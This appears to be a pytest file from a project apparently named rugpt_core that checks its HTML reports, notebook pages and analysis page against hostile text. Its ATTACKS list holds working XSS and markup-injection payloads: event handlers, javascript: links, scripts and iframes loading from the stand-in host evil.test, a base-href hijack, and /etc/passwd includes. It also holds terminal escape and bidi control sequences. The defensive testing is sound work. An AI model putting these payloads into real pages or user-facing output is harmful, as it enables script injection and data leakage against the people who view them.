"""Text that strangers wrote, from an accepted answer to the browser: nothing of it runs, loads or turns the page
around."""

import json

import pytest
from fake_run import make_run

from rugpt_core.common.errors import RugptError, printable
from rugpt_core.evaluation.html_page import build_page
from rugpt_core.report import pages, stage
from rugpt_core.views import article_markdown

# what an article, a model or a server may write; HIT would show in the page's title, its console or its requests
ATTACKS = (
    "<img src=http://evil.test/a.png onerror=document.title='HIT'>",
    "<svg onload=document.title='HIT'><script>document.title='HIT'</script></svg>",
    "[нажми](javascript:document.title='HIT') ![p](http://evil.test/b.png) <http://evil.test/c>",
    '"><script src=http://evil.test/d.js></script><iframe src=http://evil.test/e>',
    '<a href="data:text/html,<script>1</script>">x</a><style>@import "http://evil.test/f.css";</style>',
    "</script></title></style><base href=http://evil.test/><meta http-equiv=refresh content=0;url=http://evil.test/g>",
    '`x`{=html} ```{=html}\n<img src=http://evil.test/h>\n``` <div style="background:url(http://evil.test/i)">d</div>',
    "#include(\"/etc/passwd\") #image(\"http://evil.test/j.png\") $ #read(\"k\") $ @cite <label> \\input{/etc/passwd}",
    "\x1b]8;;http://evil.test/l\x07link\x1b]8;;\x07 \x1b[2J\x1b[31mred \u202etxet desrever\u202c \u2066x\u2069 \x00 "
    "\ud800",
    "---\ntitle: HIT\nheader-includes: <script>document.title='HIT'</script>\n---\n",
    "| a | b |\n|---|---|\n| <img src=x onerror=document.title='HIT'> | $\\href{javascript:1}{x}$ |",
    "<math><mi href=javascript:document.title='HIT'>m</mi></math><details open "
    "ontoggle=document.title='HIT'>o</details>",
)  # fmt: skip
TEXT = "\n\n".join(ATTACKS)


def output(**data):
    return dict(output_type="display_data", metadata={}, data={k.replace("_", "/"): v for k, v in data.items()})


def hostile_notebook(path):
    "A notebook whose outputs carry the text in every form that an output can have."
    safe = TEXT.encode("utf-8", "replace").decode()
    stream = dict(output_type="stream", name="stdout", text=safe)
    error = dict(output_type="error", ename=safe, evalue=safe, traceback=[safe])
    outputs = [output(text_markdown=safe, text_plain="<IPython.core.display.Markdown object>"),
        output(text_markdown=article_markdown("<b onclick=x>t", TEXT), text_plain="m"),
        output(text_html=safe, text_plain=safe),
        output(**{"image_svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'>{safe}</svg>",
        "text_plain": safe}), output(text_latex=safe, application_javascript="document.title='HIT'"), stream, error,]
    cell = dict(cell_type="code", id="c", metadata={}, execution_count=1, source="show()", outputs=outputs)
    meta = {"kernelspec": {"display_name": "p", "language": "python", "name": "p"}}
    path.write_text(json.dumps(dict(cells=[cell], nbformat=4, nbformat_minor=5, metadata=meta)))


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    "A report of a run whose articles, samples, titles, names and notebooks are hostile, and its page of the analysis."
    folder = tmp_path_factory.mktemp("site")
    run, out = make_run(folder / "run", n=20, nasty=False), folder / "out"
    out.mkdir()
    for path in (run / "generations").glob("*.jsonl"):
        rows = [json.loads(line) for line in path.read_text().splitlines()]
        for row in rows:
            row |= dict(text=TEXT, prompt=f"{ATTACKS[0]}\n\n{TEXT}")
        path.write_text("\n".join(json.dumps(r) for r in rows))
    hit = dict(rule="stress", title=TEXT, left=ATTACKS[1], before=ATTACKS[2], after=ATTACKS[3], right=ATTACKS[4])
    refused = [dict(reason=a, title=a, n_chars=9, text=a) for a in ATTACKS]
    (run / "clean" / "examples.json").write_text(json.dumps(dict(hits=[hit], rejected=refused)))
    hostile_notebook(run / "notebooks" / "03_synthesize.ipynb")
    stage.build_report(run, out)
    texts = [dict(opening="o", prompt=TEXT, text=a, topic=a, marks=[[0, 9, "copy", a]]) for a in ATTACKS]
    sets = [dict(name=n, kind=k, texts=texts) for n, k in (("human", "human"), (ATTACKS[3], "model"))]
    (out / "analysis.html").write_text(build_page(sets, {ATTACKS[5]: {"rep_4": ATTACKS[0]}}, TEXT), encoding="utf-8")
    return out


PAGES = ("report.en.html", "report.ru.html", "notebooks/03_synthesize.html", "analysis.html")


@pytest.mark.slow
@pytest.mark.parametrize("name", PAGES)
def test_console_and_network_stay_empty(site, browser, name):
    page, seen = browser.new_page(), []
    page.on("console", lambda m: seen.append(m.text))
    page.on("pageerror", lambda e: seen.append(str(e)))
    page.on("request", lambda r: None if r.url.startswith(("file:", "data:")) else seen.append(r.url))
    page.goto((site / name).resolve().as_uri())
    page.wait_for_timeout(300)
    assert seen == [] and "HIT" not in page.title()
    live = "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a => a.name.startsWith('on') || "
    live += "/^\\s*javascript:/i.test(a.value)).map(a => e.tagName + ' ' + a.name))"
    assert page.evaluate(live) == []
    links = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.href)")
    assert [x for x in links if not x.startswith(("file:", "http:", "https:"))] == []
    shown = page.evaluate("document.body.innerText")
    assert not set(shown) & set("\x1b\x07\u202e\u202c\u2066\u2069\x00")
    assert "onerror=document.title" in shown  # the text itself is still there to read
    page.close()


def test_markdown_outputs_are_shown(site):
    page = (site / "notebooks" / "03_synthesize.html").read_text()
    assert "IPython.core.display.Markdown" not in page and "нажми" in page


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_article_as_markdown_is_its_text(attack):
    from html.parser import HTMLParser

    class Words(HTMLParser):
        def __init__(self):
            super().__init__()
            self.words, self.tags = [], set()

        def handle_starttag(self, tag, attrs):
            self.tags.add(tag)

        def handle_data(self, data):
            self.words.append(data)

    found = Words()
    found.feed(pages.markdown_html(article_markdown("t", attack)))
    assert found.tags <= {"p", "strong"}
    want = " ".join(printable(attack).split())
    assert " ".join("".join(found.words).split()).replace("\ufffd", "") == ("t " + want).replace("\ufffd", "")


def test_errors_obey_nothing():
    message = str(RugptError(ATTACKS[8], ATTACKS[8]))
    assert not set(message) & set("\x1b\x07\u202e\x00\ud800") and message.encode()
